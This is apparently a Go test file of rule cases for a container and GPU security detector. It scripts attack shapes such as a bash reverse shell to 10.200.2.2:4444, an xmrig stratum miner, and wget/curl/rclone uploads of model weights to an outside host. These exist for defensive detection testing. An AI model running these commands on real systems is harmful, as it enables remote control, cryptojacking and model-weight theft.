package detect

import (
	"net/netip"

	"github.com/kestrel-sec/kestrel/internal/event"
)

// Table cases of the GPU-* and EXF-* rules for TestRules: per rule, the
// attack shapes of the scenarios (docs/testing.md) fire and the benign shapes stay
// silent. Multi-step correlation (EXF-001) is tested in exfil_test.go.

const (
	mib       = 1 << 20
	hfBlob    = "/tmp/h/hf/hub/models--acme--secret-7b/blobs/" + "9f2c1a0b8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a4938271605f4e3d"
	hfSnap    = "/tmp/h/hf/hub/models--acme--secret-7b/snapshots/0123abcd/model.safetensors"
	llamaFile = "/tmp/h/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
)

// mopen is a successful open with a known size and inode.
func mopen(b pb, c *event.Container, path, raw string, flags uint32, size int64, ino uint64) *event.Event {
	ev := openEv(b, c, path, raw, flags, 5)
	ev.File.Size, ev.File.Inode, ev.File.Dev = size, ino, 2049
	return ev
}

// egressEv is a byte report of socket cookie.
func egressEv(b pb, c *event.Container, addr string, port uint16, class string, cookie, bytes uint64, closed bool) *event.Event {
	return &event.Event{Kind: event.KindEgress, Process: b.p, Container: c,
		Net: &event.Net{Protocol: "tcp", DAddr: netip.MustParseAddr(addr), DPort: port, Class: class,
			Cookie: cookie, BytesSent: bytes, Closed: closed, Fd: -1}}
}

// cookieConn is a connect with a socket cookie.
func cookieConn(b pb, c *event.Container, addr string, port uint16, class string, cookie uint64) *event.Event {
	ev := connEv(b, c, addr, port, class)
	ev.Net.Cookie = cookie
	return ev
}

// gpuStart is a gpu start event of GPU index idx for the owner b.
func gpuStart(b pb, c *event.Container, idx int, uuid string) *event.Event {
	return &event.Event{Kind: event.KindGPU, Process: b.p, Container: c,
		GPU: &event.GPU{Change: event.GPUStart, PID: b.p.PID, Index: idx, UUID: uuid, UsedBytes: 1 << 30}}
}

// podCtr is a container the enricher placed in a pod that has no GPUs.
func podCtr(name string) *event.Container {
	c := ctr(name)
	c.PodUID, c.Pod, c.Namespace = "uid-"+name, name, "serving"
	return c
}

func aiRuleCases() []ruleCase {
	infer := func(s string) *event.Container { return ctr("simctr-infer-" + s) }
	side := func(s string) *event.Container { return ctr("simctr-sidecar-" + s) }
	srv := func(pid uint32) pb {
		return proc(pid, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py", "--port", "8000").caps(0)
	}
	gpu0 := func(c *event.Container) *event.Container { c.GPUs = []string{"GPU-0"}; return c }
	return []ruleCase{
		// GPU-001
		{"A10 reverse shell from the GPU owner", "GPU-001", func() []*event.Event {
			c := infer("a10")
			return evs(execEv(srv(400), c), gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(401, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &").anc(an(400, "/usr/bin/python3.11")), c))
		}, true, event.SevCritical},
		{"shell re-parented away from the owner", "GPU-001", func() []*event.Event {
			c := infer("a10")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(402, "/usr/bin/bash", "bash", "-c", "id").anc(an(401, "/usr/bin/dash"), an(400, "/usr/bin/python3.11")), c))
		}, true, event.SevHigh},
		{"shell under a vllm server before it owns a GPU", "GPU-001", func() []*event.Event {
			c := infer("x")
			vllm := proc(410, "/usr/bin/python3.11", "python3", "-m", "vllm.entrypoints.openai.api_server")
			return evs(execEv(vllm, c), execEv(proc(411, "/bin/sh", "sh", "-c", "id").anc(an(410, "/usr/bin/python3.11")), c))
		}, true, 0},
		{"multiprocessing worker allowlisted", "GPU-001", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(403, "/usr/bin/python3.11", "python3", "-c", "from multiprocessing.spawn import spawn_main; spawn_main()").anc(an(400, "/usr/bin/python3.11")), c))
		}, false, 0},
		{"a shell started as argv[0] uname is not the allowlisted uname", "GPU-001", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(406, "/usr/bin/dash", "uname", "-c", "id").anc(an(400, "/usr/bin/python3.11")), c))
		}, true, 0},
		{"a shell started as argv[0] python3 with a multiprocessing -c line is no worker", "GPU-001", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(407, "/usr/bin/dash", "python3", "-c", "from multiprocessing import x; sh -i").anc(an(400, "/usr/bin/python3.11")), c))
		}, true, 0},
		{"B3 probe is not in the owner's lineage", "GPU-001", func() []*event.Event {
			c := infer("b1")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				execEv(proc(404, "/bin/sh", "sh", "-c", "curl -fsS http://127.0.0.1:8000/health").anc(an(390, "/tmp/h/bin/runc")), c))
		}, false, 0},
		{"owner lineage in another container", "GPU-001", func() []*event.Event {
			return evs(gpuStart(srv(400), infer("a"), 0, "GPU-0"),
				execEv(proc(405, "/bin/sh", "sh").anc(an(400, "/usr/bin/python3.11")), infer("b")))
		}, false, 0},

		// GPU-002
		{"A11 miner in a container without GPUs", "GPU-002", func() []*event.Event {
			c := podCtr("simctr-nogpu-a11")
			x := proc(502, "/tmp/xmrig", "/tmp/xmrig", "10.200.2.2", "hold", "--url", "stratum+tcp://10.200.2.2:3333")
			return evs(execEv(x, c), gpuStart(x, c, 0, "GPU-0"))
		}, true, event.SevCritical},
		{"owner on a GPU outside the allocation", "GPU-002", func() []*event.Event {
			c := gpu0(infer("x"))
			return evs(execEv(srv(420), c), gpuStart(srv(420), c, 1, "GPU-1"))
		}, true, event.SevHigh},
		{"NVIDIA_VISIBLE_DEVICES=void", "GPU-002", func() []*event.Event {
			c := infer("x")
			return evs(execEv(srv(421).env("NVIDIA_VISIBLE_DEVICES", "void"), c), gpuStart(srv(421), c, 0, "GPU-0"))
		}, true, 0},
		{"B1 server owns its allocated GPU", "GPU-002", func() []*event.Event {
			c := gpu0(infer("b1"))
			return evs(execEv(srv(422), c), gpuStart(srv(422), c, 0, "GPU-0"))
		}, false, 0},
		{"unknown allocation is not judged", "GPU-002", func() []*event.Event {
			c := infer("x")
			return evs(execEv(srv(423), c), gpuStart(srv(423), c, 0, "GPU-0"))
		}, false, 0},
		{"host torch job outside the agent allowlist", "GPU-002", func() []*event.Event {
			return evs(gpuStart(proc(424, "/usr/bin/python3").ns(hostNS), nil, 0, "GPU-0"))
		}, true, 0},

		// GPU-003
		{"A11 control node with an empty allocation", "GPU-003", func() []*event.Event {
			return evs(openEv(proc(502, "/tmp/xmrig"), podCtr("simctr-nogpu-a11"), "/dev/nvidiactl", "", rdw, 3))
		}, true, event.SevHigh},
		{"device with an assignment of none (static_alloc [])", "GPU-003", func() []*event.Event {
			c := ctr("simctr-nogpu-a11")
			c.GPUs = []string{}
			return evs(openEv(proc(502, "/tmp/xmrig"), c, "/dev/nvidia0", "", rdw, 3))
		}, true, event.SevHigh},
		{"A11 mknod of a GPU node", "GPU-003", func() []*event.Event {
			return evs(sysEv(proc(501, "/usr/bin/mknod"), infer("x"), event.Syscall{Name: "mknod", Path: "/dev/nvidia0"}))
		}, true, 0},
		{"device outside the allocation, refused", "GPU-003", func() []*event.Event {
			c := infer("x")
			c.GPUs = []string{"GPU-0"}
			return evs(gpuStart(srv(430), c, 0, "GPU-0"), openEv(proc(431, "/bin/cat"), c, "/dev/nvidia1", "", rd, -1))
		}, true, 0},
		{"driver params written", "GPU-003", func() []*event.Event {
			return evs(openEv(proc(432, "/bin/sh"), infer("x"), "/proc/driver/nvidia/params", "", wr, 3))
		}, true, 0},
		{"own device", "GPU-003", func() []*event.Event {
			c := gpu0(infer("x"))
			return evs(gpuStart(srv(430), c, 0, "GPU-0"), openEv(srv(430), c, "/dev/nvidia0", "", rdw, 3),
				openEv(srv(430), c, "/dev/nvidiactl", "", rdw, 3))
		}, false, 0},
		{"B5 agent container", "GPU-003", func() []*event.Event {
			return evs(openEv(proc(433, "/tmp/h/agent/nvidia-smi"), podCtr("simctr-agent-b5"), "/dev/nvidiactl", "", rd, 3))
		}, false, 0},
		{"B5 host stub", "GPU-003", func() []*event.Event {
			return evs(openEv(proc(434, "/tmp/h/agent/nvidia-smi").ns(hostNS), nil, "/dev/nvidia0", "", rd, 3))
		}, false, 0},

		// GPU-004
		{"A12 maps then mem of the owner", "GPU-004", func() []*event.Event {
			c := side("a12")
			sc := proc(441, "/usr/bin/python3").ns(hostPIDNS)
			return evs(gpuStart(srv(440), infer("a12"), 0, "GPU-0"),
				openEv(sc, c, "/proc/440/maps", "", rd, 3), openEv(sc, c, "/proc/440/mem", "", rd, 4))
		}, true, event.SevCritical},
		{"ptrace attach to the owner", "GPU-004", func() []*event.Event {
			return evs(gpuStart(srv(440), infer("x"), 0, "GPU-0"),
				sysEv(proc(442, "/usr/bin/gdb").ns(hostPIDNS), side("x"), event.Syscall{Name: "ptrace", Flags: 16, Target: 440}))
		}, true, 0},
		{"ptrace target 440 in the actor's own PID namespace is not host pid 440", "GPU-004", func() []*event.Event {
			return evs(gpuStart(srv(440), infer("x"), 0, "GPU-0"),
				sysEv(proc(442, "/usr/bin/gdb"), side("x"), event.Syscall{Name: "ptrace", Flags: 16, Target: 440}))
		}, false, 0},
		{"py-spy dump against the owner", "GPU-004", func() []*event.Event {
			return evs(gpuStart(srv(440), infer("x"), 0, "GPU-0"),
				execEv(proc(443, "/usr/local/bin/py-spy", "py-spy", "dump", "--pid", "440").ns(hostNS), nil))
		}, true, 0},
		{"owner reads its own maps", "GPU-004", func() []*event.Event {
			return evs(gpuStart(srv(440), infer("x"), 0, "GPU-0"), openEv(srv(440), infer("x"), "/proc/440/maps", "/proc/self/maps", rd, 3))
		}, false, 0},
		{"mem of a process owning no GPU", "GPU-004", func() []*event.Event {
			return evs(openEv(proc(444, "/usr/bin/python3").ns(hostPIDNS), side("x"), "/proc/999/mem", "", rd, 3))
		}, false, 0},

		// GPU-005
		{"A10 sidecar plants a pickle under a model root", "GPU-005", func() []*event.Event {
			return evs(openEv(proc(450, "/usr/bin/python3"), side("a10"), "/tmp/h/models/evil-ckpt/pytorch_model.bin", "", wr, 3))
		}, true, event.SevHigh},
		{"config rewritten", "GPU-005", func() []*event.Event {
			return evs(openEv(proc(451, "/bin/sh"), infer("x"), "/tmp/h/models/llama-3-8b-instruct/config.json", "", wr, 3))
		}, true, 0},
		{"rename onto a served model", "GPU-005", func() []*event.Event {
			return evs(sysEv(proc(452, "/bin/mv"), infer("x"), event.Syscall{Name: "renameat2", Path: "/tmp/x.bin", Path2: "/tmp/h/models/m/model.safetensors"}))
		}, true, event.SevCritical},
		{"B1 downloader is a model updater", "GPU-005", func() []*event.Event {
			return evs(openEv(proc(453, "/usr/bin/curl", "curl", "-s", "-o", "/tmp/h/models/llama-3-8b-instruct/model-00002-of-00002.safetensors"),
				ctr("simctr-build-b1"), "/tmp/h/models/llama-3-8b-instruct/model-00002-of-00002.safetensors", "", wr, 3))
		}, false, 0},
		{"B1 host copy outside the model roots", "GPU-005", func() []*event.Event {
			return evs(openEv(proc(454, "/usr/bin/cp").ns(hostNS), nil, "/tmp/h/registry/llama/model-00001-of-00001.safetensors", "", wr, 3))
		}, false, 0},
		{"HF download temp file", "GPU-005", func() []*event.Event {
			return evs(openEv(proc(455, "/usr/bin/python3"), infer("x"), hfBlob+".incomplete", "", wr, 3))
		}, false, 0},
		{"owner reloads its model", "GPU-005", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(456), c, 0, "GPU-0"), mopen(srv(456), c, llamaFile, "", rd, 8*mib, 11))
		}, false, 0},

		// GPU-006
		{"A10 shell in the owner's lineage dials out", "GPU-006", func() []*event.Event {
			c := infer("a10")
			return evs(gpuStart(srv(400), c, 0, "GPU-0"),
				connEv(proc(403, "/usr/bin/bash").anc(an(402, "/usr/bin/bash"), an(401, "/usr/bin/dash"), an(400, "/usr/bin/python3.11")), c, "10.200.2.2", 4444, event.ClassExternal))
		}, true, event.SevCritical},
		{"owner pushes to an outside host", "GPU-006", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(460), c, 0, "GPU-0"), connEv(srv(460), c, "10.200.2.2", 443, event.ClassExternal))
		}, true, event.SevHigh},
		{"owner to the allowlisted pod network", "GPU-006", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(460), c, 0, "GPU-0"), connEv(srv(460), c, "10.200.1.1", 6379, event.ClassNode))
		}, false, 0},
		{"non-owner dials out", "GPU-006", func() []*event.Event {
			return evs(connEv(proc(461, "/usr/bin/curl"), infer("x"), "10.200.2.2", 443, event.ClassExternal))
		}, false, 0},

		// GPU-007
		{"A11 nvidia-smi --gpu-reset in a GPU-less container", "GPU-007", func() []*event.Event {
			return evs(execEv(proc(501, "/tmp/h/bin/nvidia-smi", "/tmp/h/bin/nvidia-smi", "--gpu-reset", "-i", "0"), podCtr("simctr-nogpu-a11")))
		}, true, event.SevHigh},
		{"power limit from an inference container", "GPU-007", func() []*event.Event {
			return evs(execEv(proc(470, "/usr/bin/nvidia-smi", "nvidia-smi", "-pl", "200"), gpu0(infer("x"))))
		}, true, event.SevMedium},
		{"B5 query", "GPU-007", func() []*event.Event {
			return evs(execEv(proc(471, "/usr/bin/nvidia-smi", "nvidia-smi", "--query-gpu=index,uuid", "--format=csv", "-l", "1"), infer("x")))
		}, false, 0},
		{"agent container resets", "GPU-007", func() []*event.Event {
			return evs(execEv(proc(472, "/usr/bin/nvidia-smi", "nvidia-smi", "-r"), ctr("simctr-agent-x")))
		}, false, 0},

		// GPU-008
		{"A11 xmrig with stratum", "GPU-008", func() []*event.Event {
			return evs(execEv(proc(502, "/tmp/xmrig", "/tmp/xmrig", "10.200.2.2", "hold", "--url", "stratum+tcp://10.200.2.2:3333", "--donate-level", "1"), podCtr("simctr-nogpu-a11")))
		}, true, event.SevCritical},
		{"pool port from an inference container", "GPU-008", func() []*event.Event {
			return evs(connEv(proc(480, "/tmp/w"), gpu0(infer("x")), "10.200.2.2", 3333, event.ClassExternal))
		}, true, 0},
		{"pool port from an ordinary container", "GPU-008", func() []*event.Event {
			return evs(connEv(proc(481, "/usr/bin/curl"), ctr("simctr-web-x"), "10.200.2.2", 8080, event.ClassExternal))
		}, false, 0},

		// EXF-001 (single-step shapes; the state machine is in exfil_test.go)
		{"tainted process connects to a runtime socket", "EXF-001", func() []*event.Event {
			c := infer("x")
			b := proc(490, "/usr/bin/python3")
			r := mopen(b, c, llamaFile, "", rd, 8*mib, 11)
			w := mopen(b, c, "/dev/shm/x", "", wr, -1, 12)
			return evs(r, w, unixEv(b, c, "/run/containerd/containerd.sock"))
		}, true, event.SevHigh},
		{"variant VB4: a weight reader (a model hasher) lists kubelet pod-resources", "EXF-001", func() []*event.Event {
			b := proc(490, "/usr/local/bin/sensor")
			return evs(mopen(b, nil, llamaFile, "/proc/4242/root"+llamaFile, rd, 8*mib, 11),
				unixEv(b, nil, "/var/lib/kubelet/pod-resources/kubelet.sock"),
				unixEv(b, nil, "/run/nvidia-persistenced/socket"))
		}, false, 0},
		{"variant V40: wget --post-file reads the weights, then uploads them", "EXF-001", func() []*event.Event {
			c := infer("v40")
			w := proc(492, "/usr/bin/wget", "wget", "-q", "--post-file="+llamaFile, "http://10.200.2.2:9000/wget")
			return evs(execEv(w, c), mopen(w, c, llamaFile, "", rd, 8*mib, 11),
				cookieConn(w, c, "10.200.2.2", 9000, event.ClassExternal, 9),
				egressEv(w, c, "10.200.2.2", 9000, event.ClassExternal, 9, 8*mib, true), exitEv(w, c))
		}, true, event.SevCritical},
		{"wget downloads next to the weights it reads (a downloader, no upload)", "EXF-001", func() []*event.Event {
			c := infer("x")
			w := proc(493, "/usr/bin/wget", "wget", "-q", "-O", "/tmp/h/models/x/config.json", "http://10.200.2.2:9000/config.json")
			return evs(execEv(w, c), mopen(w, c, llamaFile, "", rd, 8*mib, 11),
				cookieConn(w, c, "10.200.2.2", 9000, event.ClassExternal, 9), exitEv(w, c))
		}, false, 0},
		{"reader owns a GPU", "EXF-001", func() []*event.Event {
			c := infer("x")
			return evs(gpuStart(srv(491), c, 0, "GPU-0"), mopen(srv(491), c, llamaFile, "", rd, 8*mib, 11),
				cookieConn(srv(491), c, "10.200.2.2", 443, event.ClassExternal, 9))
		}, false, 0},

		// EXF-002
		{"A8 curl -T", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(510, "/usr/bin/curl", "curl", "-s", "-m", "10", "-T", "/tmp/w.tgz", "http://10.200.2.2:9000/upload"), infer("a8")))
		}, true, event.SevHigh},
		{"rclone to a remote", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(511, "/usr/bin/rclone", "rclone", "copy", "/models", "evil:bucket"), infer("x")))
		}, true, 0},
		{"aws s3 cp of a model from a plain container", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(512, "/usr/bin/aws", "aws", "s3", "cp", "/tmp/h/models/llama-3-8b-instruct", "s3://x/"), ctr("simctr-web-x")))
		}, true, 0},
		{"aws s3 cp download", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(513, "/usr/bin/aws", "aws", "s3", "cp", "s3://models/llama", "/models/llama"), infer("x")))
		}, false, 0},
		{"B3 curl without upload flags", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(514, "/usr/bin/curl", "curl", "-fsS", "-m", "2", "http://127.0.0.1:8000/health"), infer("b1")))
		}, false, 0},
		{"B2 pip install", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(515, "/usr/bin/python3", "python3", "-m", "pip", "install", "ebpfh-demo"), infer("b2")))
		}, false, 0},
		{"A9 python script", "EXF-002", func() []*event.Event {
			return evs(execEv(proc(516, "/usr/bin/python3", "python3", "-", hfSnap), infer("a9")))
		}, false, 0},

		// EXF-003
		{"A9 8 MiB to one destination", "EXF-003", func() []*event.Event {
			c := infer("a9")
			b := proc(520, "/usr/bin/python3")
			return evs(cookieConn(b, c, "10.200.2.2", 443, event.ClassExternal, 21),
				egressEv(b, c, "10.200.2.2", 443, event.ClassExternal, 21, 8*mib+1000, true))
		}, true, event.SevHigh},
		{"allowlisted destination", "EXF-003", func() []*event.Event {
			c := infer("x")
			b := proc(521, "/usr/bin/python3")
			return evs(egressEv(b, c, "10.200.1.7", 443, event.ClassPod, 22, 512*mib, true))
		}, false, 0},
		{"under the threshold", "EXF-003", func() []*event.Event {
			c := infer("x")
			b := proc(522, "/usr/bin/python3")
			return evs(egressEv(b, c, "10.200.2.2", 443, event.ClassExternal, 23, 3*mib, true))
		}, false, 0},

		// EXF-004
		{"A8 tar over a model root", "EXF-004", func() []*event.Event {
			return evs(execEv(proc(530, "/usr/bin/tar", "tar", "czf", "/tmp/w.tgz", "-C", "/tmp/h/models", "llama-3-8b-instruct"), infer("a8")))
		}, true, 0},
		{"A9 tainted copy into /dev/shm", "EXF-004", func() []*event.Event {
			c := infer("a9")
			b := proc(531, "/usr/bin/python3")
			return evs(mopen(b, c, hfBlob, hfSnap, rd, 8*mib, 31), mopen(b, c, "/dev/shm/.nv-cache", "", wr, -1, 32))
		}, true, 0},
		{"model tarball extracted at start", "EXF-004", func() []*event.Event {
			return evs(execEv(proc(532, "/usr/bin/tar", "tar", "xzf", "/tmp/m.tgz", "-C", "/tmp/h/models"), infer("x")))
		}, false, 0},
		{"B4 gzip of a log", "EXF-004", func() []*event.Event {
			return evs(execEv(proc(533, "/usr/bin/gzip", "gzip", "-f", "/tmp/h/logs/pods/x/0.log.1"), infer("b4")))
		}, false, 0},

		// EXF-005
		{"A8b tar under the runtime exec path", "EXF-005", func() []*event.Event {
			c := infer("a8b")
			t := proc(540, "/usr/bin/tar", "tar", "cf", "-", "-C", "/tmp/h/models", "llama-3-8b-instruct").
				anc(an(539, "/usr/bin/nsenter"), an(538, "/tmp/h/bin/runc"))
			return evs(execEv(proc(537, "/bin/sleep", "sleep", "20"), c), execEv(t, c), mopen(t, c, llamaFile, "", rd, 8*mib, 41))
		}, true, event.SevHigh},
		{"tar run by the entrypoint", "EXF-005", func() []*event.Event {
			return evs(execEv(proc(541, "/usr/bin/tar", "tar", "cf", "/tmp/x.tar", "/etc").anc(an(1, "/bin/sh")), infer("x")))
		}, false, 0},

		// EXF-006
		{"A8 find -name *.safetensors", "EXF-006", func() []*event.Event {
			return evs(execEv(proc(550, "/usr/bin/find", "find", "/tmp/h", "-name", "*.safetensors", "-size", "+1M"), infer("a8")))
		}, true, event.SevLow},
		{"sched_debug read", "EXF-006", func() []*event.Event {
			return evs(openEv(proc(551, "/bin/cat"), infer("x"), "/proc/sched_debug", "", rd, 3))
		}, true, 0},
		{"B5 agent reads GPU information", "EXF-006", func() []*event.Event {
			return evs(openEv(proc(552, "/usr/bin/nvidia-smi"), ctr("simctr-agent-b5"), "/proc/driver/nvidia/gpus/0000:00:1e.0/information", "", rd, 3))
		}, false, 0},
		{"find for logs", "EXF-006", func() []*event.Event {
			return evs(execEv(proc(553, "/usr/bin/find", "find", "/var/log", "-name", "*.log"), infer("x")))
		}, false, 0},
	}
}
